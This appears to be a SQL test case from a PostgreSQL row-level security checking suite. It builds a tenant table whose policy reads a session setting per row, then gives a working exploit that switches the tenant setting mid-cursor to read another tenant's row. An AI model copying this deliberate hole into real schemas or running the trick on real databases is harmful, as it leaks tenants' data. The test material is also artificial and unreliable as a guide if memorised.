-- title: the context is read per row, so a cursor can see two tenants
-- kind: hole
-- expect: B26
-- object: public.readings
-- logins: app
create role meter_owner nologin;
create role app login;
grant create on schema public to meter_owner;
grant usage on schema public to app;
set role meter_owner;
create table public.readings (
  tenant_id int not null,
  id int not null,
  kwh numeric not null,
  primary key (tenant_id, id)
);
create index on public.readings (id);
alter table public.readings enable row level security;
alter table public.readings force row level security;
create policy readings_tenant on public.readings using (tenant_id = nullif(current_setting('app.tenant_id', true), '')::int);
grant select, insert, update, delete on public.readings to app;
reset role;
revoke create on schema public from meter_owner;

-- @data
insert into readings select 1 + n % 2, n, n from generate_series(1, 10) n;
-- @exploit
set local enable_indexscan = off; set local enable_bitmapscan = off; set local enable_indexonlyscan = off;
select set_config('app.tenant_id', '1', true);
create temp table seen (tenant_id int);
do $$
declare
  rows_of_mine cursor for select tenant_id from public.readings;
  tenant int;
begin
  open rows_of_mine;
  fetch rows_of_mine into tenant;
  perform set_config('app.tenant_id', '2', true);
  fetch rows_of_mine into tenant;
  insert into seen values (tenant);
end $$;
select 1 from seen where tenant_id = 2;
